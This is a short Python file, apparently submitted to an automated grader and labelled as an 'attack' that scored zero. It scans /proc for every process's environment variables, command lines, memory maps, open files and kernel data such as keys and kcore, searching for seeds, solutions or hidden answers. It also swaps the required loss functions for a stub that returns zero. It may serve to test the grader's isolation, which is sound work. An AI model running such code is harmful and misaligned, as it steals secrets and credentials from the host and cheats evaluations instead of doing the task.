# attack: reads command lines, environments, maps, memory and open files of itself and of others in /proc
# status: wrong
# points: 0
import contextlib
import glob
import os

import torch

loot = []
for pid in ("self", "1", str(os.getppid()), *(os.path.basename(p) for p in glob.glob("/proc/[0-9]*"))):
    for name in ("environ", "cmdline", "maps", "status", "mountinfo", "cgroup", "stack", "auxv", "syscall"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
            loot.append(file.read(100_000))
    for number in range(64):
        with contextlib.suppress(OSError):
            loot.append(os.readlink(f"/proc/{pid}/fd/{number}").encode())
        with contextlib.suppress(OSError), open(f"/proc/{pid}/fd/{number}", "rb") as file:
            loot.append(file.name.encode() if number < 4 else file.read(1000))
    for way in ("root", "cwd"):
        with contextlib.suppress(OSError):
            loot.extend(name.encode() for name in os.listdir(f"/proc/{pid}/{way}/"))
for name in ("kcore", "kallsyms", "kmsg", "keys", "mounts", "net/unix", "net/tcp", "timer_list", "config.gz"):
    with contextlib.suppress(OSError), open(f"/proc/{name}", "rb") as file:
        loot.append(file.read(1000))


def guess(*args):
    hidden = [piece for piece in loot if b"seed" in piece or b"solutions" in piece or b"hidden" in piece]
    if hidden:  # somebody's secrets are in reach: say so in a way that no test can miss
        raise MemoryError(f"{len(hidden)} secrets")
    return torch.zeros(())


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
